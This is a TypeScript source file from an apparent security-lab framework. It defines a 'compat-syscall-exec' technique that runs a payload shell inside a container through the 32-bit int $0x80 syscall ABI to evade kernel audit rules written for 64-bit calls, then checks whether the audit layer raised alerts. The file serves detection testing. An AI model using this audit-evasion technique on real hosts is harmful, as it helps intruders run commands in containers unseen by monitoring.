/**
 * Attack (T1609 Container Administration Command, T1059.004 Unix Shell,
 * T1562.006 Indicator Blocking): root on the node opens a shell in a
 * running protected container through the 32-bit system call ABI. A
 * 64-bit process that executes `int $0x80` makes an i386 system call
 * (IA32 emulation, on by default in x86_64 kernels), which audit records
 * with arch=i386 and i386 numbers; kernel audit rules written for
 * `arch=b64` do not match it. The shell is the container's own /bin/sh,
 * from its signed layers, so no file-based defence has anything to refuse.
 *
 * As in memfd-exec, a shell on the node joins the container's cgroups, then
 * runs native/compat-exec.c, which enters the container's namespaces, forks
 * and calls execve("/bin/sh", …) through `int $0x80`. To the kernel, and to
 * any detector that places processes by cgroup, that is a process of the
 * container.
 *
 * What must catch it: the audit layer, with a lab-wide rule for the i386
 * calls it records in 64-bit form (exec, open, namespace joins, mounts,
 * memory files; 32-bit calls are rare on a 64-bit host) and an i386
 * syscall table in its parser (lab/audit/node/kernel-rules.ts labRules,
 * lab/audit/syscalls.ts). Lab hosts are x86_64 (FACTS.md); the technique
 * refuses to run on another architecture.
 */
import { arch } from 'node:os';
import { awaitAuditAlerts } from '../../audit/index.ts';
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { requirePayload, type AttackErrorCode } from './common.ts';
import { containerTool } from './memfd-exec.ts';


export const compatSyscallExec: Technique = {
  name: 'compat-syscall-exec',
  async run(ctx) {
    if (arch() !== 'x64') throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the 32-bit system call ABI this attack uses is x86's (int $0x80); this host is ${arch()}`);
    const payload = requirePayload(ctx.attack);
    const tool = await containerTool(ctx, 'compat-exec');
    const { target, since } = tool;
    const { command, r } = await tool.run(['/bin/sh', '-c', payload]);
    const stdout = r.stdout.toString();
    const stderr = r.stderr.toString();
    const effect = r.exitCode === 0 && stdout.trim() !== '';
    return {
      effect,
      reason: effect
        ? `a shell started by execve through the 32-bit system call ABI (int $0x80) ran "${payload}" in ${target.pod.namespace}/${target.pod.name}: exit 0`
        : `the shell started through the 32-bit system call ABI did not run in ${target.pod.namespace}/${target.pod.name}: exit ${r.exitCode}, ${stderr.trim()}`,
      evidence: { command, exitCode: r.exitCode, stdout, stderr, auditAlerts: await awaitAuditAlerts(ctx.node, since) },
    };
  },
};
